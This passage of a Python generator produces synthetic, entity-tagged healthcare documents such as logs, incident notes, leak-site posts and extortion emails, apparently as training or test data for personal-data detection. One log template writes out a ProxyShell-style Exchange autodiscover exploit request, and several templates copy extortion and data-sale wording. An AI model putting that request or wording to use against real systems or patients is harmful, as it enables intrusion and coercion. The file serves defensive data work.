          t=LT(c.t, "%Y-%m-%d %H:%M:%S"))
    sip = priv()
    for i in range(rng.randint(4, 6)):
        p = P()
        t = c.tick()
        if rng.random() < 0.5:
            d.fill("{t} {s} GET /owa/ ‐ 443 {nb}\\{u} {ip} Mozilla/5.0+(Windows+NT+10.0) 200 {ms}\n", t=LT(t, "%Y-%m-%d %H:%M:%S"), s=sip,
                   nb=I(o.nb, "HOSTNAME"), u=p.user(), ip=priv(), ms=str(rng.randint(10, 900)))
        else:
            d.fill("{t} {s} POST /autodiscover/autodiscover.json a=x@x/powershell&Email=autodiscover/autodiscover.json 443 - {ip} python-requests/2.31 200 {ms} {cv}\n",
                   t=LT(t, "%Y-%m-%d %H:%M:%S"), s=sip, ip=pub(), ms=str(rng.randint(10, 900)), cv=cve())
    return d, "en_US", o


@style("zoom-meeting-report-csv")
def s_zoom():
    o, c = Org(), Clock()
    d = Doc().t("Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes),Guest,IP Address,Location\n")
    for i in range(rng.randint(3, 5)):
        p = P()
        d.fill('"{n}",{e},{t},{t2},{m},No,{ip},"{city}, US"\n', n=p.n("lf"), e=p.mail(o), t=LT(c.tick(), "%m/%d/%Y %I:%M:%S %p"),
               t2=LT(c.tick(600, 3000), "%m/%d/%Y %I:%M:%S %p"), m=str(rng.randint(10, 60)), ip=priv(), city=city("en_US"))
    pt = P()
    d.fill('"{n} (patient)",{e},{t},{t2},22,Yes,{ip},"{city}, US"\n', n=pt.n(), e=pt.freemail(), t=LT(c.tick(), "%m/%d/%Y %I:%M:%S %p"),
           t2=LT(c.tick(600, 2000), "%m/%d/%Y %I:%M:%S %p"), ip=priv(), city=city("en_US"))
    d.fill('"IT Support",{e},{t},{t2},3,Yes,{ip},"Lagos, NG"\n', e=amail(), t=LT(c.tick(), "%m/%d/%Y %I:%M:%S %p"), t2=LT(c.tick(100, 200), "%m/%d/%Y %I:%M:%S %p"), ip=pub())
    return d, "en_US", o


@style("outlook-calendar-csv")
def s_outlook():
    o, c = Org(), Clock()
    d = Doc().t('"Subject","Start Date","Start Time","End Date","Location","Description","Required Attendees"\n')
    for i in range(rng.randint(3, 5)):
        p, s = P(), P()
        dd = visit_date()
        d.fill('"Follow-up - {n} (MRN {m})","{d}","{tm}","{d2}","Clinic B room {r}","Call pt at {ph} if late","{s}"\n', n=p.n("LF"), m=mrn(),
               d=D(dd, "%m/%d/%Y"), tm=f"{rng.randint(8, 16)}:{ch(['00', '30'])}:00", d2=D(dd, "%m/%d/%Y"), r=str(rng.randint(1, 30)), ph=phone(), s=s.mail(o))
    d.fill('"Urgent: mailbox re-validation","{d}","9:00:00","{d}","{u}","Injected by rule created from {ip}","{s}"\n', d=N("11/30/2026", "LOGTIME"), u=url(), ip=pub(), s=P().mail(o))
    return d, "en_US", o


@style("telegram-export-json", "json")
def s_telegram():
    o, c = Org(), Clock()
    pts = [P() for _ in range(3)]
    msgs = []
    actorname = ch(["broker_kali", "d0c_dump", "med_leaks"])
    msgs.append({"id": 1, "type": "message", "date": N(c.tick().strftime("%Y-%m-%dT%H:%M:%S"), "LOGTIME"), "from": actorname,
                 "text": F("Fresh hospital db, {org}, 40k rows, sample below. Escrow via {w}. Contact {m}", org=I(o.name, "ORG"), w=wallet(), m=amail())})
    for p in pts:
        msgs.append({"id": len(msgs) + 1, "type": "message", "date": N(c.tick().strftime("%Y-%m-%dT%H:%M:%S"), "LOGTIME"), "from": actorname,
                     "text": F("{n} | {dob} | {ssn} | {ph} | {a}", n=p.n("LFc"), dob=D(p.dob, "%m/%d/%Y"), ssn=natid("en_US", p), ph=phone(), a=street())})
    msgs.append({"id": len(msgs) + 1, "type": "message", "date": N(c.tick().strftime("%Y-%m-%dT%H:%M:%S"), "LOGTIME"), "from": actorname,
                 "text": F("mirror: {u} (group by {a})", u=url(True), a=actor())})
    obj = {"name": "leaks market", "type": "public_supergroup", "id": int(digits(10)), "messages": msgs}
    return jdoc(obj, 1), "en_US", o


@style("signal-export-txt")
def s_signal():
    o, c = Org(), Clock()
    a, b, p = P(), P(), P()
    d = Doc()
    lines = [
        (a, F("can you look up {n} for me, think she's in 4W", n=p.n())),
        (b, F("{last}, DOB {dob}, MRN {m}. why?", last=p.n("last"), dob=D(p.dob, "%m/%d/%y"), m=mrn())),
        (a, F("someone called her daughter from {x} pretending to be billing. her real # is {ph}", x=aphone(), ph=phone())),
        (b, F("report it to security, the caller also texted a link {u}", u=url(True))),
    ]
    for who, txt in lines:
        d.fill("[{t}] {w}: ", t=N(c.tick(20, 400).strftime("%d.%m.%y %H:%M"), "CHAT_TIME"), w=who.n()).put(txt).t("\n")
    return d, "en_US", o


@style("quick-assist-abuse-note")
def s_quickassist():
    o, p, s = Org(), P(), P()
    d = F("Security incident note — {dt}\nCaller {n} (registration clerk, {u}, ext {x}) received a call from {ph} claiming to be {org} IT.\n"
          "She opened Quick Assist and read out code {rid}; the session came from {ip}. Within minutes {m1} and {m2} were on {h}.\n"
          "Her workstation showed patient {pn} (MRN {mr}) at the time. Techniques: {t1}, {t2}. Reported by {sn}.\n",
          dt=N("2026-11-21", "LOGTIME"), n=s.n(), u=s.user(), x=I(f"x{digits(4)}", "PHONE"), ph=aphone(), org=I(o.name, "ORG"), rid=remote_id(),
          ip=pub(), m1=mal(), m2=X("Black Basta", "MALWARE"), h=o.host(), pn=p.n("lf"), mr=mrn(), t1=X("T1219", "MITRE"), t2=mitre(), sn=P().n("init"))
    return d, "en_US", o


@style("patient-extortion-email")
def s_extort():
    o, p = Org(), P()
    d = F("From: {a}\nTo: {pm}\nSubject: Your records from {org}\n\n{first},\nWe hold your chart from {org2}: DOB {dob}, diagnosis list, insurance id {hp}.\n"
          "Pay 0.05 BTC to {w} within 72 hours or the file goes to your employer. Questions: {tox}\n-- {act}\n\n"
          "[forwarded to privacy@] by the patient from her own address {pm2}, phone {ph}, asking what to do.\n",
          a=amail(), pm=p.freemail(), org=I(o.name, "ORG"), first=p.n("first"), org2=I(o.name, "ORG"), dob=D(p.dob, "%B %d, %Y"),
          hp=I(f"{ch(['XEH', 'YPD', 'JQW'])}{digits(9)}", "HEALTH_PLAN"), w=wallet(), tox=amail(), act=X(ch(["Daixin", "Karakurt", "BianLian"]), "MALWARE"),
          pm2=I(f"{ind.slug(p.first)}.{digits(2)}@{ch(['gmail.com', 'aol.com'])}", "EMAIL"), ph=phone())
    return d, "en_US", o


@style("leak-site-sample")
def s_leak():
    o = Org()
    d = F("== {act} blog :: new victim ==\n{org} ({dom}) — 212 GB — deadline 6d 11h\nProof pack #2 (patient face sheets):\n", act=ransom(), org=I(o.name, "ORG"), dom=I(o.dom, "HOSTNAME"))
    for i in range(rng.randint(3, 4)):
        p = P()
        d.fill("  {n}; {dob}; {a}, {c} {z}; SSN {s}; Ins {h}\n", n=p.n("LFc"), dob=D(p.dob, "%m/%d/%Y"), a=street(), c=city("en_US"), z=zipc(), s=natid("en_US", p),
               h=I(f"{ch(['W', 'H', 'U'])}{digits(9)}", "HEALTH_PLAN"))
    d.fill("Mirror: {u}\nTor: {dm}\n", u=url(True), dm=X("".join(ch("abcdefghijklmnopqrstuvwxyz234567") for _ in range(56)) + ".onion", "DOMAIN"))
    return d, "en_US", o


@style("guardduty-finding-json", "json")
def s_guardduty():
    o, p = Org(), P()
    obj = {"schemaVersion": "2.0", "accountId": (digits(12), "id", "ACCOUNT"), "region": "us-east-1",
           "type": "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
           "resource": {"accessKeyDetails": {"accessKeyId": "ASIA" + "".join(ch("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)),
                                             "principalId": "AROA" + "".join(ch("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)),
                                             "userName": p.user(1), "userType": "AssumedRole"}},
           "service": {"action": {"awsApiCallAction": {"api": "GetObject", "remoteIpDetails": {"ipAddressV4": X(ind.public_ipv4(rng), "IPV4"),
                                                                                               "organization": {"asnOrg": "M247 Europe SRL"}}}},
                       "resourceRole": "TARGET", "additionalInfo": {"bucket": (f"{ind.slug(o.short)}-imaging-exports", "id", "HOSTNAME"),
                                                                    "key": F("exports/{m}_{ln}.dcm", m=mrn(), ln=I(ind.slug(P().last).upper(), "NAME"))}},
           "severity": 8, "createdAt": N("2026-11-19T04:12:55.012Z", "LOGTIME")}
    return jdoc(obj, 2), "en_US", o


@style("usb-device-control-csv")
def s_usb():
    o, c = Org(), Clock()
    d = Doc().t("Timestamp,Computer,User,Device,Serial,Action,Files\n")
    for i in range(rng.randint(4, 6)):
        p, pt = P(), P()
        d.fill("{t},{h},{nb}\\{u},Kingston DataTraveler,{s},{a},\"{f}\"\n", t=LT(c.tick(), "%Y-%m-%d %H:%M:%S"), h=o.host(), nb=I(o.nb, "HOSTNAME"), u=p.user(),
               s=I(f"{hashlib.md5(str(rng.random()).encode()).hexdigest()[:20].upper()}", "DEVICE_SERIAL"), a=ch(["Allowed (exception)", "Blocked", "Audit"]),
               f=F("{ln}_{fn}_discharge.pdf", ln=I(ind.slug(pt.last).capitalize(), "NAME"), fn=I(ind.slug(pt.first).capitalize(), "NAME")))
    return d, "en_US", o


@style("dlp-incident-email")
def s_dlp():
    o, p, s = Org(), P(), P()
    d = F("Subject: DLP policy match: U.S. HIPAA (high volume)\nFrom: Microsoft Purview <no-reply@microsoft.com>\nTo: {sec}\n\n"
          "Sender: {se}\nRecipients: {ext}\nMatched content: 'Patient: {pn}  SSN {ssn}  DOB {dob}  Member ID {hp}'\n"
          "Action: blocked (override requested with justification 'sending to my home for night shift')\n"
          "Note: the recipient mailbox also appears in {mal} stealer logs for the domain {dm}.\n",
          sec=I(f"security@{o.dom}", "EMAIL"), se=s.mail(o), ext=s.freemail(), pn=p.n(), ssn=natid("en_US", p), dob=D(p.dob, "%m-%d-%Y"),
          hp=I(f"{digits(3)}{ch('ABCDEFGH')}{digits(5)}", "HEALTH_PLAN"), mal=X("Lumma", "MALWARE"), dm=dom())
    return d, "en_US", o


# ---------------------------------------------------------------- styles: clinical and business


@style("ehr-downtime-bca-report")
def s_bca():
    o, c = Org(), Clock()
    d = F("BUSINESS CONTINUITY ACCESS — DOWNTIME CENSUS   Printed {t} on {h} by {u}\nUnit: 5 North   Reason: EHR unavailable ({rw} containment)\n\n"
          "Rm   Patient                    MRN        DOB         Age  Attending       Allergies\n",
          t=LT(c.t, "%m/%d/%Y %H%M"), h=o.host(), u=P().user(), rw=ransom())
    for i in range(rng.randint(4, 6)):
        p, a = P(), P()
        age = rng.choice([p.age, p.age, rng.randint(90, 101)])
        if age >= 90:
            p.dob = dt.date(2026 - age, rng.randint(1, 10), rng.randint(1, 28))
        d.fill("{rm}  {n}{m}{dob}  {age}  {at}{al}\n", rm=f"5{rng.randint(10, 40)}{ch('AB')}", n=pad(p.n("LFc"), 27), m=pad(mrn(), 11),
               dob=D(p.dob, "%m/%d/%Y"), age=I(str(age), "AGE") if age >= 90 else N(str(age), "AGE_UNDER_90"), at=pad(a.n("init"), 16), al=ch(["NKDA", "PCN", "sulfa", "latex"]))
    return d, "en_US", o


@style("dispensing-cabinet-override")
def s_pyxis():
    o, c = Org(), Clock()
    d = Doc().t("OVERRIDE REPORT — Station 4W-MED1\nDate/Time        | User              | Patient                  | MRN       | Item                 | Witness\n")
    for i in range(rng.randint(4, 6)):
        u, p, w = P(), P(), P()
        d.fill("{t} | {u} | {p} | {m} | {it} | {w}\n", t=LT(c.tick(), "%m/%d/%y %H:%M"), u=u.n("LFc"), p=p.n("LFc"), m=mrn(),
               it=ch(["HYDROmorphone 2mg", "fentaNYL 100mcg", "LORazepam 2mg", "ketamine 50mg/mL"]), w=w.n("LFc") if rng.random() < 0.6 else "(none)")
    d.t("Pharmacy note: two overrides made while the cabinet console was reachable from a workstation running ").put(mal()).t(".\n")
    return d, "en_US", o


@style("lab-courier-manifest")
def s_courier():
    o, c = Org(), Clock()
    r = P()
    d = F("COURIER MANIFEST  Route {rt}  Driver {dr}  Vehicle {veh}\nPickup: {org} lab, {a}, {ci}\n\n#  Specimen   Patient            DOB         Test       Temp\n",
          rt=f"R{rng.randint(1, 30)}", dr=r.n(), veh=I(f"{rng.randint(1, 9)}{ch('ABCDEFGHJK')}{ch('ABCDEFGHJK')}{digits(4)}", "VEHICLE"), org=I(o.name, "ORG"), a=street(), ci=city("en_US"))
    for i in range(rng.randint(4, 6)):
        p = P()
        d.fill("{i}  {s}  {n}{dob}  {tst}  {tmp}\n", i=str(i + 1), s=f"S{digits(8)}", n=pad(p.n("init"), 19), dob=D(p.dob, "%m/%d/%Y"), tst=ch(["CBC     ", "BMP     ", "HbA1c   ", "PT/INR  "]), tmp=ch(["ambient", "refrig", "frozen"]))
    d.fill("Driver's handheld reported a text from {ph} asking to 'confirm route' at {u}; ignored, reported to IT.\n", ph=aphone(), u=url(True))
    return d, "en_US", o


@style("pharmacy-callback-log")
def s_rxcall():
    o, c = Org(), Clock()
    d = Doc().t("Time   Caller / callback               Re: patient                 Note\n")
    for i in range(rng.randint(3, 5)):
        p, s = P(), P()
        d.fill("{t}  {s} {ph}  {pn} DOB {dob}  {note}\n", t=LT(c.tick(), "%H:%M"), s=s.n("LF"), ph=phone(), pn=p.n("lf"), dob=D(p.dob, "%m/%d/%y"),
               note=ch(["dose clarif, called back", "PA needed, faxed", "refill too soon"]))
    p = P()
    d.fill("{t}  'prescriber office' {ph}  {pn} DOB {dob}  caller asked for DEA # and member id; number not ours — vishing, see {a}\n", t=LT(c.tick(), "%H:%M"), ph=aphone(),
           pn=p.n("lf"), dob=D(p.dob, "%m/%d/%y"), a=actor())
    return d, "en_US", o


@style("wristband-reprint-log")
def s_wrist():
    o, c = Org(), Clock()
    d = Doc().t("Wristband reprints — ADT print server\n")
    for i in range(rng.randint(4, 6)):
        p, u = P(), P()
        d.fill("{t}  printer {pr}  by {u}  {n}  MRN:{m}  DOB:{dob}  FIN:{fin}  reason={r}\n", t=LT(c.tick(), "%Y-%m-%d %H:%M:%S"), pr=I(f"zebra-ed{rng.randint(1, 9)}.{o.dom}", "HOSTNAME"),
               u=u.user(), n=p.n("LFc"), m=mrn(), dob=D(p.dob, "%m/%d/%Y"), fin=I(digits(10), "ACCOUNT"), r=ch(["smudged", "wrong unit", "name correction", "lost"]))
    d.fill("{t}  printer (none)  by {sp}  job submitted from {ip} (not a workstation): 40 blank labels, ZPL with link {u}\n", t=LT(c.tick(), "%Y-%m-%d %H:%M:%S"), sp=I("svc_print", "USERNAME"), ip=pub(), u=url())
    return d, "en_US", o


@style("atmist-handover")
def s_atmist():
    o = Org("en_GB")
    p, cr = P("en_GB"), P("en_GB")
    age = rng.randint(20, 88)
    d = F("ATMIST — ambulance handover to ED, {org}\nA: {age}-year-old, {n}, DOB {dob}, NHS no. {nhs}\nT: incident {tm}, 999 call from {ph}\n"
          "M: fall from ladder at home, {a}, {ci} {pc}\nI: # R wrist, head lac\nS: BP 134/82 HR 96 GCS 15\nT: splint, 4mg ondansetron\n"
          "Crew: {cr} ({col}). Tablet ePCR sync failed — trust VPN blocked by {m} alert from {ip}.\n",
          org=I(o.name, "ORG"), age=N(str(age), "AGE_UNDER_90"), n=p.n(), dob=D(p.dob, "%d/%m/%Y"), nhs=I(f"{digits(3)} {digits(3)} {digits(4)}", "HEALTH_PLAN"),
          tm=DT("%H:%M %d/%m"), ph=phone("en_GB"), a=street("en_GB"), ci=city("en_GB"), pc=zipc("en_GB"), cr=cr.n("init"), col=I(f"P{digits(5)}", "LICENSE"), m=mal(), ip=pub())
    return d, "en_GB", o


@style("birth-registration-worksheet")
def s_birth():
    o = Org()
    m, f, b = P(), P(), P()
    m.first, f.first, b.first = fk("en_US").first_name_female(), fk("en_US").first_name_male(), fk("en_US").first_name_female()
    b.last = m.last
    m.dob = dt.date(2026 - rng.randint(18, 44), rng.randint(1, 12), rng.randint(1, 28))
    d = F("BIRTH CERTIFICATE WORKSHEET (facility copy)\nChild: {bn}   Sex: F   Born: {bt}   Weight 3210 g\nMother (legal name): {mn}  Maiden: {mm}  DOB {mdob}  SSN {ms}\n"
          "Mother's residence: {a}, {ci} {z}\nFather: {fn}  DOB {fdob}\nCertifier: {ti} {cert}, NPI {npi}\nClerk note: worksheet scanned to {share}; the share was in the {rw} encryption set.\n",
          bn=I(f"{b.first} {b.last}", "NAME"), bt=DT("%m/%d/%Y %H:%M"), mn=m.n(), mm=I(fk("en_US").last_name(), "NAME"), mdob=D(m.dob, "%m/%d/%Y"), ms=natid("en_US", m),
          a=street(), ci=city("en_US"), z=zipc(), fn=f.n(), fdob=D(f.dob, "%m/%d/%Y"), ti=N("Dr.", "TITLE"), cert=P().n(), npi=I("1" + digits(9), "LICENSE"),
          share=I(f"\\\\fs02.{o.dom}\\vitalrec", "HOSTNAME"), rw=ransom())
    return d, "en_US", o


@style("nicu-visitor-log")
def s_nicu():
    o, c = Org(), Clock()
    d = Doc().t("NICU VISITOR LOG — pod C\nTime in | Visitor | Relationship | Baby | Band # | ID checked\n")
    for i in range(rng.randint(4, 6)):
        v, b = P(), P()
        d.fill("{t} | {v} | {r} | Baby {g} {bl} | {band} | DL {dl}\n", t=LT(c.tick(), "%H:%M"), v=v.n(), r=ch(["mother", "father", "grandmother", "aunt"]),
               g=ch(["Girl", "Boy"]), bl=I(b.last, "NAME"), band=I(f"{digits(4)}", "MRN"), dl=I(f"{ch('ABCDFGHJ')}{digits(7)}", "LICENSE"))
    d.fill("Security: the pod tablet's kiosk app was reachable from {ip} ({c})\n", ip=pub(), c=cve())
    return d, "en_US", o


@style("roi-request-log")
def s_roi():
    o, c = Org(), Clock()
    d = Doc().t("Release of Information log\nRecv'd,Requester,Patient,DOB,Records,Delivery,Status\n")
    for i in range(rng.randint(4, 5)):
        p = P()
        d.fill("{t},{rq},\"{pn}\",{dob},{rec},{dl},{st}\n", t=D(visit_date(), "%m/%d/%Y"), rq=ch(["self", "attorney", "insurer", "SSA"]), pn=p.n("lf"), dob=D(p.dob, "%m/%d/%Y"),
               rec=ch(["ED 10/2026", "all imaging", "labs 2025-26"]), dl=p.freemail(), st=ch(["sent", "pending ID", "closed"]))
    p = P()
    d.fill("{t},\"law office\",\"{pn}\",{dob},full chart,{e},HOLD - requester domain registered 3 days ago ({dm})\n", t=D(visit_date(), "%m/%d/%Y"), pn=p.n("lf"), dob=D(p.dob, "%m/%d/%Y"),
           e=amail(False), dm=dom())
    return d, "en_US", o


@style("telephone-encounter-note")
def s_telenc():
    o, p, s = Org(), P(), P()
    d = F("TELEPHONE ENCOUNTER  {dt}\nPatient: {n}  MRN {m}  DOB {dob}\nCaller: self, from {ph}\nReason: pt says they got a call from {ap} 'from the clinic' asking to verify her card number and SSN; gave the last 4 digits of a card.\n"
          "Advised: call bank, place fraud alert. Her callback is {ph2} (home). Routed to privacy officer {po}.\nSigned: {s}, RN\n",
          dt=DT("%m/%d/%Y %I:%M %p"), n=p.n(), m=mrn(), dob=D(p.dob, "%m/%d/%Y"), ph=phone(), ap=aphone(), ph2=phone(), po=P().n(), s=s.n("init"))
    return d, "en_US", o


@style("portal-proxy-access-request")
def s_proxy():
    o, p, r = Org(), P(), P()
    d = F("MyHealth proxy access request #{rq}\nPatient: {pn} (DOB {dob}, MRN {m})\nRequesting proxy: {rn}, relationship: adult child\nProxy e-mail: {re}   Phone: {rp}\n"
          "Reviewer note: request submitted from {ip}; same IP made 31 other proxy requests today using addresses like {ae}. Denied; see {t}.\n",
          rq=digits(6), pn=p.n(), dob=D(p.dob, "%m/%d/%Y"), m=mrn(), rn=r.n(), re=r.freemail(), rp=phone(), ip=pub(), ae=amail(), t=X("T1078", "MITRE"))
    return d, "en_US", o


@style("eligibility-call-note")
def s_elig():
    o, p = Org(), P()
    d = F("Elig check {dt} — payer IVR then rep {rep} (ref {ref})\nMember: {pn}, DOB {dob}, member ID {hp}, group {g}\nSubscriber: {sub}\nCoverage active; copay $40.\n"
          "Rep warned that {org}'s clearinghouse login was used from {ip} to pull 270/271 for members; advised rotate creds for {u}.\n",
          dt=DT("%m/%d/%Y %H:%M"), rep=P().n("first"), ref=f"{digits(10)}", pn=p.n("LF"), dob=D(p.dob, "%m/%d/%Y"), hp=I(f"{ch(['ZGP', 'AEH', 'MKB'])}{digits(9)}", "HEALTH_PLAN"),
          g=I(digits(6), "HEALTH_PLAN"), sub=P().n(), org=I(o.name, "ORG"), ip=pub(), u=P().user())
    return d, "en_US", o


@style("chaplain-visit-note")
def s_chaplain():
    o, p, f = Org(), P(), P()
    d = F("Spiritual care visit — {dt}\n{pn} ({age}) in 7E; wife {fn} present. Patient asked for prayer before surgery, Catholic, parish St. Anne's in {ci}.\n"
          "{fn2} asked that her cell {ph} be the contact. Chaplain {ch} (pager {pg}).\n",
          dt=DT("%b %d %Y %H:%M"), pn=p.n(), age=N(f"{p.age} y/o", "AGE_UNDER_90"), fn=f.n(), ci=city("en_US"), fn2=f.n("first"), ph=phone(), ch=P().n(), pg=I(digits(5), "PHONE"))
    return d, "en_US", o


@style("dietitian-note")
def s_diet():
    o, p = Org(), P()
    d = F("NUTRITION ASSESSMENT  {dt}\nPt: {pn}  MRN: {m}  DOB: {dob}\nHt 165 cm Wt 58.2 kg BMI 21.4; intake <50% x 5 days.\nPlan: oral supplement BID; diet tablet app down since vendor outage ({rw}).\nRD: {rd} x{x}\n",
          dt=DT("%m/%d/%y %H%M"), pn=p.n("LFc"), m=mrn(), dob=D(p.dob, "%m/%d/%Y"), rw=ransom(), rd=P().n(), x=I(digits(4), "PHONE"))
    return d, "en_US", o


@style("psych-hold-form")
def s_psych():
    o, p, r = Org(), P(), P()
    p.first, nick = ch(NICK)
    d = F("APPLICATION FOR 72-HOUR DETENTION (facility copy)\nPerson: {pn}  AKA '{nick}'  DOB {dob}\nAddress: {a}, {ci} {z}\nDetained: {dt} by {ti} {ev}\n"
          "Grounds: danger to self. Notified: {rel} (mother) {ph}.\nNote: scanned copy was found on the leak site of {rw} ({u}).\n",
          pn=p.n(), nick=I(nick, "NAME"), dob=D(p.dob, "%m/%d/%Y"), a=street(), ci=city("en_US"), z=zipc(), dt=DT("%m/%d/%Y %H%M"), ti=N("Dr.", "TITLE"), ev=P().n("last"),
          rel=r.n(), ph=phone(), rw=ransom(), u=url(True))
    return d, "en_US", o


@style("webex-meeting-report")
def s_webex():
    o, c = Org(), Clock()
    d = F("Webex Meeting Report\nTopic: Tumor board {dt}\nHost: {h}\n\nParticipant               Email                                  Join       Client IP\n", dt=D(visit_date(), "%b %d, %Y"), h=P().mail(o))
    for i in range(rng.randint(3, 5)):
        p = P()
        d.fill("{n}{e}{t}  {ip}\n", n=pad(p.n(), 26), e=pad(p.mail(o), 39), t=LT(c.tick(), "%H:%M:%S"), ip=priv())
    d.fill("guest-4411                {e}{t}  {ip}   <- recorded the session; stayed after host left\n", e=pad(amail(), 39), t=LT(c.tick(), "%H:%M:%S"), ip=pub())
    pt = P()
    d.fill("Cases discussed: {a}, {b}\n", a=pt.n("LF"), b=P().n("LF"))
    return d, "en_US", o


# ---------------------------------------------------------------- styles: other languages

ADDR = {
    "is_IS": lambda: f"{ch(['Hafnarstræti', 'Aðalgata', 'Skólavegur', 'Túngata'])} {rng.randint(1, 60)}",
    "et_EE": lambda: f"{ch(['Riia', 'Tähe', 'Jakobi', 'Kalda'])} tn {rng.randint(1, 90)}-{rng.randint(1, 40)}",
    "lv_LV": lambda: f"{ch(['Rīgas', 'Brīvības', 'Skolas', 'Dzirnavu'])} iela {rng.randint(1, 120)}",
    "lt_LT": lambda: f"{ch(['Vilniaus', 'Taikos', 'Žalgirio', 'Kęstučio'])} g. {rng.randint(1, 120)}",
    "sl_SI": lambda: f"{ch(['Partizanska', 'Cankarjeva', 'Prešernova', 'Trubarjeva'])} cesta {rng.randint(1, 90)}",
    "bg_BG": lambda: f"ул. {ch(['Родопи', 'Шипка', 'Витоша', 'Марица'])} {rng.randint(1, 90)}",
    "ca_ES": lambda: f"Carrer {ch(['de Sant Pere', 'Major', 'de la Riera', 'del Carme'])}, {rng.randint(1, 90)}, {rng.randint(1, 6)}r",
    "eu_ES": lambda: f"{ch(['Nagusia', 'Txurruka', 'San Martin', 'Urdaneta'])} kalea {rng.randint(1, 60)}",
    "sw_KE": lambda: f"Barabara ya {ch(['Oginga Odinga', 'Moi', 'Kenyatta', 'Nyerere'])}, Nyumba {rng.randint(1, 300)}",
    "bn_BD": lambda: f"বাড়ি {rng.randint(1, 99)}, রোড {rng.randint(1, 30)}",
    "ur_PK": lambda: f"مکان نمبر {rng.randint(1, 400)}، گلی {rng.randint(1, 30)}",
    "ga_IE": lambda: f"{rng.randint(1, 90)} {ch(['Bóthar na Trá', 'Sráid an Mhuilinn', 'Ascaill na Coille'])}",
    "af_ZA": lambda: f"{rng.randint(1, 200)} {ch(['Kerkstraat', 'Dorpstraat', 'Bloemstraat', 'Eikelaan'])}",
    "fil_PH": lambda: f"{rng.randint(1, 400)} {ch(['Rizal St.', 'Mabini St.', 'Bonifacio Ave.'])}",
    "mk_MK": lambda: f"ул. {ch(['Партизанска', 'Илинденска', 'Гоце Делчев'])} бр. {rng.randint(1, 90)}",
    "zh_TW": lambda: f"{ch(['中正路', '民生路', '忠孝東路', '中山北路'])}{rng.randint(1, 300)}號",
}


def health_no(loc):
    if loc == "sl_SI":
        return I(digits(9), "HEALTH_PLAN")
    if loc == "ca_ES":
        return I(f"{ch(['GACA', 'MORO', 'PUIG', 'SERR'])}{digits(10)}", "HEALTH_PLAN")
    if loc == "eu_ES":
        return I(f"TIS {digits(8)}", "HEALTH_PLAN")
    if loc == "sw_KE":
        return I(f"CR{digits(10)}-{digits(1)}", "HEALTH_PLAN")
    if loc == "zh_TW":
        return I(f"{digits(4)} {digits(4)} {digits(4)}", "HEALTH_PLAN")
    if loc == "fil_PH":
        return I(f"{digits(2)}-{digits(9)}-{digits(1)}", "HEALTH_PLAN")
    return I(digits(10), "HEALTH_PLAN")


NOTES = {
    "is_IS": "Atvikaskýrsla {dt}\nSjúklingur: {pn}, kt. {nid}, sími {ph}, heimili {a}, {ci}.\nStarfsmaður {sn} ({u}) opnaði viðhengi á {h} ({ip}); {m} tengdist {atk}. Svikasímtal barst frá {ap}.\nAðferð: {t}. Skráð af {s2}.\n",
    "et_EE": "Intsidendi teade {dt}\nPatsient: {pn}, isikukood {nid}, tel {ph}, aadress {a}, {ci}.\nTöötaja {sn} ({u}) avas manuse arvutis {h} ({ip}); {m} ühendus aadressiga {atk}. Petukõne tuli numbrilt {ap}.\nTehnika: {t}. Koostas {s2}.\n",
    "lv_LV": "Incidenta ziņojums {dt}\nPacients: {pn}, personas kods {nid}, tālr. {ph}, adrese {a}, {ci}.\nDarbinieks {sn} ({u}) atvēra pielikumu datorā {h} ({ip}); {m} savienojās ar {atk}. Krāpniecisks zvans no {ap}.\nTehnika: {t}. Sagatavoja {s2}.\n",
    "lt_LT": "Incidento pranešimas {dt}\nPacientas: {pn}, asmens kodas {nid}, tel. {ph}, adresas {a}, {ci}.\nDarbuotojas {sn} ({u}) atidarė priedą kompiuteryje {h} ({ip}); {m} jungėsi prie {atk}. Sukčių skambutis iš {ap}.\nTechnika: {t}. Parengė {s2}.\n",
    "sl_SI": "Poročilo o incidentu {dt}\nPacient: {pn}, EMŠO {nid}, ZZZS {hp}, tel. {ph}, naslov {a}, {ci}.\nZaposleni {sn} ({u}) je odprl prilogo na {h} ({ip}); {m} se je povezal na {atk}. Lažni klic s številke {ap}.\nTehnika: {t}. Pripravil {s2}.\n",
    "bg_BG": "Доклад за инцидент {dt}\nПациент: {pn}, ЕГН {nid}, тел. {ph}, адрес {a}, {ci}.\nСлужител {sn} ({u}) отвори прикачен файл на {h} ({ip}); {m} се свърза с {atk}. Измамно обаждане от {ap}.\nТехника: {t}. Изготвил: {s2}.\n",
    "ca_ES": "Informe d'incident {dt}\nPacient: {pn}, DNI {nid}, CIP {hp}, tel. {ph}, adreça {a}, {ci}.\nL'empleat {sn} ({u}) va obrir un adjunt a {h} ({ip}); {m} es va connectar a {atk}. Trucada fraudulenta des del {ap}.\nTècnica: {t}. Redactat per {s2}.\n",
    "eu_ES": "Gertakariaren txostena {dt}\nGaixoa: {pn}, NAN {nid}, {hp}, tel. {ph}, helbidea {a}, {ci}.\n{sn} langileak ({u}) eranskin bat ireki zuen {h} ordenagailuan ({ip}); {m} {atk} helbidera konektatu zen. Iruzurrezko deia {ap} zenbakitik.\nTeknika: {t}. Egilea: {s2}.\n",
    "sw_KE": "Ripoti ya tukio {dt}\nMgonjwa: {pn}, kitambulisho {nid}, SHA {hp}, simu {ph}, anwani {a}, {ci}.\nMfanyakazi {sn} ({u}) alifungua kiambatisho kwenye {h} ({ip}); {m} iliunganishwa na {atk}. Simu ya ulaghai kutoka {ap}.\nMbinu: {t}. Imeandikwa na {s2}.\n",
    "bn_BD": "ঘটনার প্রতিবেদন {dt}\nরোগী: {pn}, এনআইডি {nid}, ফোন {ph}, ঠিকানা {a}, {ci}।\nকর্মী {sn} ({u}) {h} ({ip}) কম্পিউটারে একটি সংযুক্তি খুলেছিলেন; {m} {atk} ঠিকানায় সংযোগ করেছে। প্রতারণামূলক কল এসেছিল {ap} থেকে।\nকৌশল: {t}। প্রস্তুতকারী: {s2}।\n",
    "ur_PK": "واقعے کی رپورٹ {dt}\nمریض: {pn}، شناختی کارڈ {nid}، فون {ph}، پتہ {a}، {ci}۔\nملازم {sn} ({u}) نے {h} ({ip}) پر ایک منسلکہ کھولا؛ {m} نے {atk} سے رابطہ کیا۔ جعلی کال {ap} سے آئی۔\nتکنیک: {t}۔ تیار کردہ: {s2}۔\n",
